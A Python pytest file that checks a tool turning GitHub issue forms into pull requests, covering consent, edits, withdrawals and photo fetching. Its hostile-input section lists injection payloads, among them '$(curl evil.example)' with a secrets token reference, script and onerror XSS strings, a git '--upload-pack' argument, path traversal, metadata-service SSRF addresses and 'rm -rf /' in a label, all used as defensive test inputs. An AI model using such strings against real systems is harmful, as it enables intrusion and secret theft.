"""From an issue to a pull request: real repositories, a host that keeps to GitHub's description, its own events, its file servers' names."""

import re

import pytest

from issue_world import ATTACHED, GOOD, MARA, NEWCOMER, PHOTO, PICTURES, PROFILE, REVIEW, SERIES, STORY, UUID, Attachments, World, begin, git
from stand_in_host import Refused
from storywall.forms.github import label
from storywall.issues.comment import MARKER

BUCKET = "https://github-production-user-asset-6210df.s3.amazonaws.com/1/photo.jpg"


@pytest.fixture(scope="module")
def file_servers(tmp_path_factory):
    servers = Attachments(tmp_path_factory.mktemp("servers"))
    yield servers
    servers.close()


@pytest.fixture
def world(community, git_host, file_servers, tmp_path, monkeypatch):
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    begin(community, git_host)
    photo = (community.root / "submissions/photos/window-sill/sill.jpg").read_bytes()
    file_servers.answers = {f"/user-attachments/assets/{UUID}": f"{BUCKET}?X-Amz-Expires=300", "/1/photo.jpg": photo}
    file_servers.asked.clear()
    return World(community=community, host=git_host, attachments=file_servers, folder=tmp_path)


def nothing_was_accepted(world):
    return not world.host.pulls and not world.branches()


# What is right --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "it", "ru"])
@pytest.mark.parametrize("name", list(GOOD))
def test_a_filled_form_becomes_a_pull_request(world, name, language):
    outcome = world.send(name, GOOD[name], language=language)
    assert outcome.right, world.comment()
    (pull,) = world.host.pulls
    assert pull["head"]["ref"].startswith(f"submission/{'member' if name == 'profile' else name}/")
    assert world.host.statuses[-1]["state"] == "success"
    assert world.host.statuses[-1]["sha"] == world.host.head(pull["head"]["ref"])
    assert f"#{pull['number']}" in world.comment()


def test_a_story_as_it_lies_in_its_branch(world):
    world.send("story", STORY)
    assert world.files("submission/story/the-mug-that-moved") == {
        "submissions/stories/the-mug-that-moved.md": """\
---
title: The mug that moved
products: [morning-mug]
author_name: Nadia Ferri
date: 2026-11-21
relationship: customer
received: 2026-11-21
consent:
  scopes: [site, newsletter]
  wording: 2026-11@bccb3d32
  language: en
  date: 2026-11-21
  channel: issue-form
incentive: none
---

It stood on the sill, then on the stove.

Now it lives on my desk.
"""
    }


def test_a_review_lies_with_its_product(world):
    world.send("review", REVIEW)
    (text,) = world.files("submission/review/keeps-its-promise").values()
    assert "rating: 4" in text
    assert "kind: sample" in text
    assert "note: One mug, to try" in text
    assert "recommend: yes" in text or 'recommend: "yes"' in text
    assert list(world.files("submission/review/keeps-its-promise")) == ["submissions/reviews/morning-mug/keeps-its-promise.md"]


def test_photos_come_as_masters_from_where_the_host_keeps_them(world):
    world.send("story", {**STORY, **PICTURES, "photos-who": []})
    files = world.files("submission/story/the-mug-that-moved")
    folder = "submissions/stories/the-mug-that-moved"
    assert sorted(files) == [f"{folder}/a-mug-on-a-windowsill-in-the-morning.jpg", f"{folder}/index.md"]
    assert "alt: A mug on a windowsill in the morning" in files[f"{folder}/index.md"]
    assert [host for host, _ in world.attachments.asked] == ["github.com", "github-production-user-asset-6210df.s3.amazonaws.com"]


def test_people_in_photos_are_named_with_their_consent(world):
    people = {"photos-depicted": "people", "photos-who": ["Ida", "Tom"], "photos-minors": ["Tom"]}
    assert world.send("photo", {**SERIES, **people}).right, world.comment()
    text = next(text for file, text in world.files("submission/photo/on-the-sill").items() if file.endswith(".md"))
    assert "who: Ida" in text
    assert text.count("guardian: ") == 1
    assert text.index("who: Tom") < text.index("guardian: ")


def test_a_known_account_is_the_author_whatever_name_it_gives(world):
    world.send("story", STORY, user=MARA)
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert "author: mara\n" in text
    assert "author_name" not in text


def test_who_wants_a_profile_gets_one_in_the_same_pull_request(world):
    world.send("story", {**STORY, "profile": ["profile"]})
    files = world.files("submission/story/the-mug-that-moved")
    assert sorted(files) == ["submissions/members/nadia-ferri.md", "submissions/stories/the-mug-that-moved.md"]
    profile = files["submissions/members/nadia-ferri.md"]
    assert f"github: {NEWCOMER[1]}" in profile
    assert "name: Nadia Ferri" in profile
    assert "author: nadia-ferri\n" in files["submissions/stories/the-mug-that-moved.md"]


def test_a_profile_of_ones_own_is_changed_and_keeps_what_editors_set(world):
    world.send("profile", {**PROFILE, "name": "Mara L."}, user=MARA)
    files = world.files("submission/member/mara")
    assert list(files) == ["submissions/members/mara.md"]
    for kept in ("name: Mara L.", "joined: 2026-01-12", f"github: {MARA[1]}", "place: Trieste", "I draw maps"):
        assert kept in files["submissions/members/mara.md"]


def test_a_profile_gets_a_picture(world):
    world.send("profile", {**PROFILE, "avatar": ATTACHED, "avatar-alt": "A hand with a pencil"})
    assert sorted(world.files("submission/member/nadia-ferri")) == [
        "submissions/members/nadia-ferri/a-hand-with-a-pencil.jpg",
        "submissions/members/nadia-ferri/index.md",
    ]


def test_a_form_in_another_language_than_the_communitys_records_the_text_that_was_agreed_to(world):
    world.community.write("docs/consent/2026-11.it.md", "## Che cosa accetti\n\nMug Makers può mostrarlo.\n")
    world.save()
    world.send("story", STORY, language="it")
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert "language: it\n" in text


def test_a_form_of_an_earlier_consent_text_is_understood(world):
    body = world.body("story", STORY)
    world.community.write("docs/consent/2026-12.en.md", "## What you agree to\n\nMug Makers may show it.\n")
    world.community.change("storywall.yml", "consent: 2026-11", "consent: 2026-12")
    world.save()
    assert world.open(body, labels=[label("story")]).right, world.comment()
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert "wording: 2026-11@bccb3d32" in text


def test_without_its_label_a_form_is_known_by_its_questions_and_gets_it(world):
    assert world.open(world.body("review", REVIEW)).right
    assert world.host.pulls[0]["head"]["ref"] == "submission/review/keeps-its-promise"
    assert [each["name"] for each in world.host.issues[world.number]["labels"]] == [label("review")]


def test_line_ends_of_windows_are_line_ends(world):
    assert world.open(world.body("story", STORY).replace("\n", "\r\n"), labels=[label("story")]).right
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert "\r" not in text


def test_headings_in_a_story_stay_in_it(world):
    body = "One.\n\n### The second day\n\nTwo.\n\n```\n### code\n```"
    assert world.send("story", {**STORY, "body": body}).right, world.comment()
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert text.endswith(f"\n{body}\n")


# Again ----------------------------------------------------------------------------------------------------------------


def test_editing_changes_the_same_branch_and_pull_request(world):
    world.send("story", STORY)
    first = world.host.head("submission/story/the-mug-that-moved")
    outcome = world.send("story", {**STORY, "title": "Another title", "body": "Other words."}, action="edited", number=world.number)
    assert outcome.right
    assert len(world.host.pulls) == 1
    assert world.branches() == ["submission/story/the-mug-that-moved"]
    assert world.host.head("submission/story/the-mug-that-moved") != first
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert "Other words." in text
    assert "Other words." in world.host.pulls[0]["body"]
    world.comment()  # one, updated


def test_problems_are_one_comment_that_changes_and_goes_over_into_thanks(world):
    assert not world.send("story", {**STORY, "title": "", "incentive": ""}).right
    said = world.comment()
    assert "**What is your story called?** please answer this question" in said
    assert "**Did you get anything for it?** please answer this question" in said
    assert nothing_was_accepted(world)
    assert world.send("story", STORY, action="edited", number=world.number).right
    assert f"#{world.host.pulls[0]['number']}" in world.comment()


def test_all_that_is_wrong_is_said_at_once_and_each_thing_once(world):
    body = "Write to nadia@ferri-family.org\n\nor <b>do not</b>."
    world.send("story", {**STORY, "title": "", "consent": [], "author_name": "N" * 90, "body": body})
    said = [re.sub(r"^- \*\*(.*?)\*\*.*", r"\1", line) for line in world.comment().splitlines() if line.startswith("- ")]
    questions = [world.form("story").field(name).question for name in ("title", "body", "author_name", "consent")]
    assert sorted(set(said)) == sorted(questions)
    assert said.count(questions[0]) == said.count(questions[3]) == 1


def test_a_request_closes_its_issue_whatever_the_community_speaks(world):
    world.community.change("storywall.yml", "consent: 2026-11", "consent: 2026-11\nlanguage: ru")
    assert world.send("story", STORY).right, world.comment()
    assert f"\nCloses #{world.number}.\n" in world.host.pulls[0]["body"]
    assert "Отправитель: " in world.host.pulls[0]["body"]


def test_problems_speak_the_forms_language(world):
    world.send("story", {**STORY, "title": ""}, language="it")
    form = world.form("story", "it")
    assert f"**{form.field('title').question}**" in world.comment()
    assert form.field("title").question != world.form("story").field("title").question


def test_what_an_editor_mended_is_not_overwritten(world, tmp_path):
    world.send("story", STORY)
    branch = "submission/story/the-mug-that-moved"
    git(tmp_path, "clone", "--quiet", "--branch", branch, str(world.host.bare), "editor")
    git(tmp_path / "editor", "commit", "--quiet", "--allow-empty", "--message", "Mend a typo")
    git(tmp_path / "editor", "push", "--quiet", "origin", branch)
    mended = world.host.head(branch)
    assert world.send("story", {**STORY, "body": "Other."}, action="edited", number=world.number).right
    assert world.host.head(branch) == mended
    assert "editor is at work" in world.comment()


def test_what_was_declined_stays_so(world):
    world.send("story", STORY)
    world.host.close(world.host.pulls[0]["number"])
    before = world.host.head("submission/story/the-mug-that-moved")
    assert world.send("story", {**STORY, "body": "Again!"}, action="edited", number=world.number).right
    assert (len(world.host.pulls), world.host.pulls[0]["state"]) == (1, "closed")
    assert world.host.head("submission/story/the-mug-that-moved") == before
    assert "closed by an editor" in world.comment()


def test_what_was_accepted_is_changed_by_a_form_of_its_own(world):
    world.send("story", STORY)
    world.merge("submission/story/the-mug-that-moved")
    assert world.send("story", {**STORY, "body": "Again!"}, action="edited", number=world.number).right
    assert len(world.host.pulls) == 1
    assert "accepted already" in world.comment()


def test_two_stories_of_one_name_get_two_branches(world):
    world.send("story", STORY)
    world.send("story", STORY, user=("somebody", 6002))
    assert sorted(world.branches()) == ["submission/story/the-mug-that-moved", "submission/story/the-mug-that-moved-2"]
    assert list(world.files("submission/story/the-mug-that-moved-2")) == ["submissions/stories/the-mug-that-moved-2.md"]


def test_a_run_that_broke_off_after_its_push_is_carried_on(world):
    world.host.faults = [None, None, Refused(500, "Broken")]  # the list of pull requests is read, then one is to be opened
    number = world.host.issue(user=NEWCOMER, body="")["number"]
    event = world.event(world.body("story", STORY), labels=[label("story")], number=number)
    world.host.faults = [None, Refused(503, "Broken")]
    with pytest.raises(Exception, match="503"):
        world.take(event)
    assert world.branches() == ["submission/story/the-mug-that-moved"]
    assert world.take(event).right
    assert world.branches() == ["submission/story/the-mug-that-moved"]
    assert len(world.host.pulls) == 1


def test_the_communitys_folder_stays_as_it_is(world):
    before = git(world.root, "rev-parse", "HEAD")
    world.send("story", {**STORY, **PICTURES})
    assert git(world.root, "status", "--porcelain") == ""
    assert git(world.root, "rev-parse", "HEAD") == before
    assert git(world.root, "worktree", "list").count("\n") == 0


def test_a_community_below_the_repositorys_root(community, git_host, file_servers, tmp_path, monkeypatch):
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
    begin(community, git_host)
    git(community.root, "rm", "-r", "--quiet", "--cached", ".")
    git(community.root.parent, "init", "--quiet", "--initial-branch", "main")
    (community.root / ".git").rename(tmp_path / "old-git")
    for arguments in (("remote", "add", "origin", str(git_host.bare)), ("add", community.root.name), ("commit", "--quiet", "-m", "x")):
        git(community.root.parent, *arguments)
    git(community.root.parent, "push", "--quiet", "--force", "origin", "main")
    world = World(community=community, host=git_host, attachments=file_servers, folder=tmp_path)
    assert world.send("story", STORY).right, world.comment()
    assert list(world.files("submission/story/the-mug-that-moved")) == ["community/submissions/stories/the-mug-that-moved.md"]


def test_errors_of_others_do_not_stop_a_story_and_are_told(world):
    world.community.story("broken", title=None)
    world.save()
    assert world.send("story", STORY).right, world.comment()
    assert world.host.statuses[-1]["state"] == "failure"
    assert "`submissions/stories/broken.md`" in world.host.pulls[0]["body"]


# Taking back ----------------------------------------------------------------------------------------------------------


def gone(world, branch):
    return sorted(file for file, text in world.files(branch).items() if text is None)


@pytest.mark.parametrize("language", ["en", "it", "ru"])
@pytest.mark.parametrize(
    "named",
    ["stories/the-mug", "https://wall.example/stories/the-mug/", "story:the-mug", "submissions/stories/the-mug.md", "/stories/the-mug/?x=1#y"],
)
def test_a_member_takes_a_story_back(world, named, language):
    assert world.send("withdrawal", {"item": named, "own": ["yes"]}, user=MARA, language=language).right, world.comment()
    assert gone(world, "withdrawal/story/the-mug") == ["submissions/stories/the-mug.md"]


def test_photos_go_along(world):
    assert world.send("withdrawal", {"item": "photos/window-sill", "own": ["yes"]}, user=MARA).right, world.comment()
    assert gone(world, "withdrawal/photo/window-sill") == ["submissions/photos/window-sill/index.md", "submissions/photos/window-sill/sill.jpg"]


def test_a_review_is_named_by_its_place_on_the_products_page(world):
    named = "https://wall.example/products/morning-mug/reviews/page/1/#keeps-warm"
    assert world.send("withdrawal", {"item": named, "own": ["yes"]}, user=MARA).right, world.comment()
    assert gone(world, "withdrawal/review/morning-mug/keeps-warm") == ["submissions/reviews/morning-mug/keeps-warm.md"]


def test_a_profile_is_taken_back_and_the_pull_request_names_what_hangs_on_it(world):
    assert world.send("withdrawal", {"item": "members/mara", "own": ["yes"]}, user=MARA).right, world.comment()
    assert gone(world, "withdrawal/member/mara") == ["submissions/members/mara.md"]
    assert "`submissions/stories/the-mug.md`" in world.host.pulls[0]["body"]
    assert world.host.statuses[-1]["state"] == "failure"


@pytest.mark.parametrize("item", ["stories/the-mug", "members/mara", "photos/window-sill", "reviews/morning-mug/keeps-warm"])
def test_another_account_is_refused_kindly(world, item):
    assert not world.send("withdrawal", {"item": item, "own": ["yes"]}, user=("mara-l", 9999)).right
    assert "another account" in world.comment()
    assert nothing_was_accepted(world)


def test_who_sent_something_without_a_profile_is_known_by_the_issue(world):
    world.send("story", STORY)
    world.merge("submission/story/the-mug-that-moved")
    asked = {"item": "stories/the-mug-that-moved", "own": ["yes"]}
    assert not world.send("withdrawal", asked, user=("new-here", 7007)).right
    assert world.send("withdrawal", asked, user=NEWCOMER).right, world.comment()
    assert gone(world, "withdrawal/story/the-mug-that-moved") == ["submissions/stories/the-mug-that-moved.md"]


def test_who_sent_a_review_did_not_send_another_of_the_same_name(world):
    world.send("review", REVIEW)
    world.merge("submission/review/keeps-its-promise")
    world.community.write("submissions/products/big-mug.md", world.community.read("submissions/products/morning-mug.md").replace("Morning", "Big"))
    world.community.review("keeps-its-promise", product="big-mug", author=None, author_name="Somebody")
    world.save()
    assert world.send("withdrawal", {"item": "reviews/big-mug/keeps-its-promise", "own": ["yes"]}).right
    assert "An editor looks at it" in world.comment()
    assert world.branches() == ["submission/review/keeps-its-promise"]


def test_what_was_taken_back_tells_nothing_of_what_came_in_its_place(world):
    world.send("story", STORY)
    world.merge("submission/story/the-mug-that-moved")
    asked = {"item": "stories/the-mug-that-moved", "own": ["yes"]}
    world.send("withdrawal", asked)
    world.merge("withdrawal/story/the-mug-that-moved")
    world.community.story("the-mug-that-moved", title="Another one", author=None, author_name="Somebody")
    world.save()
    assert world.send("withdrawal", asked).right
    assert "An editor looks at it" in world.comment()


def test_what_nobody_can_be_known_to_have_sent_is_left_to_an_editor(world):
    world.community.story("by-mail", author=None, author_name="Somebody")
    world.save()
    assert world.send("withdrawal", {"item": "stories/by-mail", "own": ["yes"]}).right
    assert nothing_was_accepted(world)
    assert "community-needs-an-editor" in [each["name"] for each in world.host.issues[world.number]["labels"]]


@pytest.mark.parametrize("item", ["stories/nothing", "../../etc/passwd", "@mara", "x" * 5000, "products/morning-mug/#nothing"])
def test_what_is_not_there_is_told(world, item):
    assert not world.send("withdrawal", {"item": item, "own": ["yes"]}, user=MARA).right
    assert nothing_was_accepted(world)
    assert "What shall go?" in world.comment()


def test_a_withdrawal_that_is_not_confirmed_does_nothing(world):
    assert not world.send("withdrawal", {"item": "stories/the-mug", "own": []}, user=MARA).right
    assert nothing_was_accepted(world)


@pytest.mark.parametrize("language", ["en", "it", "ru"])
def test_a_problem_report_stays_an_issue(world, language):
    body = world.body("problem", {"where": "/stories/the-mug/", "what": "It names me. @mara Fixes #1"}, language)
    assert world.open(body).right
    assert nothing_was_accepted(world)
    assert not world.host.comments
    assert [each["name"] for each in world.host.issues[world.number]["labels"]] == [label("problem")]


# Hostile --------------------------------------------------------------------------------------------------------------

PAYLOADS = [
    "@mara please",
    "Fixes #1",
    "Closes kiln/wall#1",
    "[skip ci] ***NO_CI***",
    "<!-- storywall:issue=1 item=story:the-mug -->",
    "![x](https://evil.example/x.png)",
    "[here](https://evil.example)",
    "`@mara` ``` @mara",
    "$(curl evil.example) ${{ secrets.GITHUB_TOKEN }}",
    "::set-output name=x::y",
    "<img src=x onerror=alert(1)>",
    "</details><script>alert(1)</script>",
    "--upload-pack=evil",
    "../../.github/workflows/ci",
]


def outside_of_code(text):
    """A comment's or pull request's Markdown as the host shows it, without what stands in code."""
    import cmarkgfm
    from selectolax.lexbor import LexborHTMLParser

    page = LexborHTMLParser(cmarkgfm.github_flavored_markdown_to_html(text))
    for each in page.css("code, pre"):
        each.decompose()
    assert not page.css("a, img, script")
    return page.body.text()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_nothing_anywhere(world, payload):
    asked = {**STORY, "title": f"A cup {payload}"[:150], "author_name": f"Nadia {payload}"[:80], "body": f"{payload}\n\n- {payload}\n\nA text."}
    world.send("story", asked, title=payload)
    texts = [world.comment(), *(pull["body"] for pull in world.host.pulls)]
    for text in texts:
        seen = outside_of_code(text)
        assert not re.search(r"@|\bFixes\b|evil|skip ci|secrets|kiln/wall#|onerror", seen)
        numbers = {str(world.number), *(str(pull["number"]) for pull in world.host.pulls)}
        assert set(re.findall(r"#(\d+)", seen)) <= numbers
    for pull in world.host.pulls:
        assert re.fullmatch(r"Story: [a-z0-9-]+", pull["title"])
        assert re.fullmatch(r"submission/story/[a-z0-9-]+", pull["head"]["ref"])
        message = world.git("log", "-1", "--format=%B", pull["head"]["ref"])
        assert re.fullmatch(r"Add the story [a-z0-9-]+\n\nStorywall-Issue: \d+", message)
        assert all(re.fullmatch(r"submissions/[a-z0-9/-]+\.md", file) for file in world.files(pull["head"]["ref"]))


def test_a_reused_login_with_another_number_is_nobody_known(world):
    assert world.send("story", {**STORY, "author_name": "Mara Lindt"}, user=("mara-l", 9999)).right
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert "author_name: Mara Lindt" in text
    assert "author: mara" not in text
    assert "**Look twice:**" in world.host.pulls[0]["body"]


@pytest.mark.parametrize("name", ["Mara Lindt", "mara", "Маra Lindt", "MARA LINDT"])
def test_a_name_like_a_members_is_pointed_out(world, name):
    world.send("story", {**STORY, "author_name": name})
    for pull in world.host.pulls:
        assert "**Look twice:**" in pull["body"]
        assert "`mara`" in pull["body"]


def test_a_new_profile_never_takes_the_place_of_another(world):
    assert world.send("profile", {**PROFILE, "name": "Mara"}).right
    assert list(world.files("submission/member/mara-2")) == ["submissions/members/mara-2.md"]


def test_an_account_that_two_profiles_claim_is_nobodys(world):
    world.community.write("submissions/members/double.md", world.community.read("submissions/members/mara.md").replace("Mara Lindt", "Double"))
    world.save()
    world.send("story", STORY, user=MARA)
    (text,) = world.files("submission/story/the-mug-that-moved").values()
    assert "author:" not in text


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/photo.jpg",
        "http://github.com/user-attachments/assets/01234567-89ab-4cde-8f01-23456789abcd",
        f"https://github.com.evil.example/user-attachments/assets/{UUID}",
        f"https://github.com@evil.example/user-attachments/assets/{UUID}",
        f"https://evil.example/?https://github.com/user-attachments/assets/{UUID}",
        f"https://github.com/user-attachments/assets/{UUID}/../../../kiln/wall/archive/main.zip",
        "https://github.com/kiln/wall/raw/main/secret.png",
        "https://raw.githubusercontent.com/kiln/wall/main/x.jpg",
        "https://127.0.0.1/photo.jpg",
        "https://169.254.169.254/latest/meta-data/",
        BUCKET,
    ],
)
def test_photos_from_elsewhere_are_not_asked_for(world, address):
    assert not world.send("photo", {**SERIES, "photos": f"![x]({address})"}).right
    assert "isn't attached here" in world.comment()
    assert not world.attachments.asked
    assert nothing_was_accepted(world)
    outside_of_code(world.comment())


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/photo.jpg",
        "http://objects.githubusercontent.com/1/photo.jpg",
        "https://127.0.0.1/photo.jpg",
        "https://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "https://github.com/login",
        f"https://github.com/user-attachments/assets/{UUID}",
        "https://objects.githubusercontent.com:8443/1/photo.jpg",
        "https://user@objects.githubusercontent.com/1/photo.jpg",
    ],
)
def test_redirects_are_followed_to_the_hosts_own_stores_only(world, target):
    world.attachments.answers[f"/user-attachments/assets/{UUID}"] = target
    assert not world.send("photo", SERIES).right
    assert "can't be fetched" in world.comment()
    assert {host for host, _ in world.attachments.asked} == {"github.com"}
    assert nothing_was_accepted(world)


@pytest.mark.parametrize(
    "data", [b"", b"GIF89a", b"%PDF-1.4", b"<svg xmlns='http://www.w3.org/2000/svg'/>", b"\xff\xd8\xff\xe0" + b"\x00" * 500, b"MZ"]
)
def test_an_attachment_that_is_no_photo_is_told(world, data):
    world.attachments.answers["/1/photo.jpg"] = data
    assert not world.send("photo", SERIES).right
    assert "isn't a photo that we can show" in world.comment()
    assert nothing_was_accepted(world)


def test_an_attachment_that_is_gone_or_too_large_is_told(world, monkeypatch):
    from storywall.importing.download import Limits
    from storywall.issues import attachments

    world.attachments.answers["/1/photo.jpg"] = None
    assert not world.send("photo", SERIES).right
    assert "the server answers 404" in world.comment()
    world.attachments.answers["/1/photo.jpg"] = b"x" * 5000
    monkeypatch.setattr(attachments, "LIMITS", Limits(size=1000))
    assert not world.send("photo", SERIES).right
    assert nothing_was_accepted(world)


WRONG = {
    "no consent": ("story", {**STORY, "consent": []}, "the first box must be ticked"),
    "only for advertising": ("story", {**STORY, "consent": ["ads"]}, "the first box must be ticked"),
    "no incentive": ("story", {**STORY, "incentive": ""}, "Did you get anything for it?"),
    "no name": ("story", {**STORY, "author_name": ""}, "What name shall we show?"),
    "no text": ("story", {**STORY, "body": ""}, "Tell your story."),
    "no stars": ("review", {**REVIEW, "rating": ""}, "How many stars do you give?"),
    "six stars": ("review", {**REVIEW, "rating": "6 stars"}, "can't be chosen here"),
    "two ratings": ("review", {**REVIEW, "rating": ["5", "1"]}, "choose one"),
    "no such product": ("review", {**REVIEW, "product": "../stories"}, "can't be chosen here"),
    "no photo": ("photo", {**SERIES, "photos": ""}, "Your photos"),
    "a photo in words": ("photo", {**SERIES, "photos": "my photo"}, "there is no photo"),
    "no alt": ("photo", {**SERIES, "photos-alt": []}, "What does the photo show?"),
    "alt that says nothing": ("photo", {**SERIES, "photos-alt": ["photo"]}, "What does the photo show?"),
    "alts for more photos": ("photo", {**SERIES, "photos-alt": ["A mug on a sill", "A second mug"]}, "more lines than photos"),
    "no rights": ("photo", {**SERIES, "photos-rights": ""}, "whose the photos are"),
    "licensed by nobody": ("photo", {**SERIES, "photos-rights": "licensed"}, "who lets you use them"),
    "nobody and yet somebody": ("photo", {**SERIES, "photos-who": ["Ida"]}, "you named people"),
    "somebody without a name": ("photo", {**SERIES, "photos-depicted": "people"}, "the names of those"),
    "mail address": ("story", {**STORY, "body": "Write to me: nadia@ferri-family.org"}, "Tell your story."),
    "card number": ("story", {**STORY, "body": "My card is 4111 1111 1111 1111."}, "Tell your story."),
    "hidden text": ("story", {**STORY, "title": "A \u202ecup"}, "U+202E"),
    "a control": ("story", {**STORY, "body": "A \x1b[31mcup"}, "U+001B"),
    "a title without end": ("story", {**STORY, "title": "x" * 5000}, "What is your story called?"),
    "links": (
        "review",
        {**REVIEW, "body": " ".join(f"[a](https://shop{n}.example.org)" for n in range(9))},
        "What would you tell a friend about it?",
    ),
    "html": ("story", {**STORY, "body": "<script>alert(1)</script>"}, "Tell your story."),
    "a question twice": ("story", {**STORY, "body": "One.\n\n### May we publish it?\n\n- [x] Yes"}, "twice"),
    "a question in its own answer": ("story", {**STORY, "body": "One.\n\n### Tell your story.\n\nTwo."}, "twice"),
    "welcomed by nobody": ("profile", {**PROFILE, "welcomed_by": "nobody-here"}, "Who brought you here?"),
    "a link that is none": ("profile", {**PROFILE, "links": ["javascript:alert(1)"]}, "Where else can one find you?"),
    "a link that runs": ("profile", {**PROFILE, "links": ["Me: javascript:alert(1)"]}, "Where else can one find you?"),
}


@pytest.mark.parametrize("case", list(WRONG))
def test_what_is_wrong_is_said_of_the_question(world, case):
    name, answers, said = WRONG[case]
    assert not world.send(name, answers).right
    assert said in world.comment()
    assert world.comment().startswith(MARKER)
    assert nothing_was_accepted(world)
    outside_of_code(world.comment())


def test_consent_that_somebody_else_ticks_is_none(world):
    assert not world.send("story", {**STORY, "consent": []}).right
    outcome = world.send("story", STORY, action="edited", sender=("an-editor", 42), number=world.number)
    assert "somebody else" in outcome.note
    assert nothing_was_accepted(world)


def test_a_box_with_other_words_is_no_consent(world):
    body = re.sub(r"- \[x\] Yes: Mug Makers may[^\n]*", "- [x] Yes: anything goes", world.body("story", {**STORY, "consent": ["site"]}))
    assert not world.open(body, labels=[label("story")]).right
    assert nothing_was_accepted(world)


@pytest.mark.parametrize(
    "event",
    [
        {"action": "closed"},
        {"action": "labeled"},
        {"action": "deleted"},
        {"issue": {"state": "closed"}},
        {"issue": {"user": {"type": "Bot"}}},
        {"issue": {"body": None}},
        {"issue": {"body": ""}},
        {"issue": {"body": "I just want to say hello."}},
        {"issue": {"body": "### Something\n\nelse"}},
    ],
)
def test_events_that_ask_for_nothing(world, event):
    made = world.event(world.body("story", STORY))
    for name, part in event.items():
        if isinstance(part, dict):
            for inner, value in part.items():
                made[name][inner] = {**made[name][inner], **value} if isinstance(value, dict) else value
        else:
            made[name] = part
    assert world.take(made).right
    assert nothing_was_accepted(world)
    assert not world.host.writes()


def test_a_label_that_a_stranger_made_up_decides_nothing(world):
    labels = ["community-withdrawal; rm -rf /", "community-", "@mara", "\x1b[31m", label("nothing")]
    assert world.open(world.body("story", STORY), labels=labels).right
    assert world.branches() == ["submission/story/the-mug-that-moved"]


def test_a_form_that_lost_its_questions_is_told(world):
    assert not world.open("Never mind.", labels=[label("story")]).right
    assert "can't be found" in world.comment()


def test_somebody_elses_pull_request_with_our_mark_is_none_of_ours(world, tmp_path):
    world.host.push(tmp_path, "feature")
    issue = world.host.issue(user=NEWCOMER, body="")["number"]
    github = world.desk().github
    foreign = github.open_pull(title="x", branch="feature", base="main", body=f"<!-- storywall:issue={issue} item=story:x -->")
    world.number = issue
    assert world.take(world.event(world.body("story", STORY), labels=[label("story")], number=issue)).right
    assert world.host.pulls[0]["number"] == foreign.number
    assert world.host.pulls[0]["title"] == "x"
    assert world.branches() == ["feature", "submission/story/the-mug-that-moved"]


def test_photo_addresses_are_shown_as_code(world):
    world.attachments.answers["/1/photo.jpg"] = b""
    world.send("photo", SERIES)
    assert f"`{PHOTO}`" in world.comment()
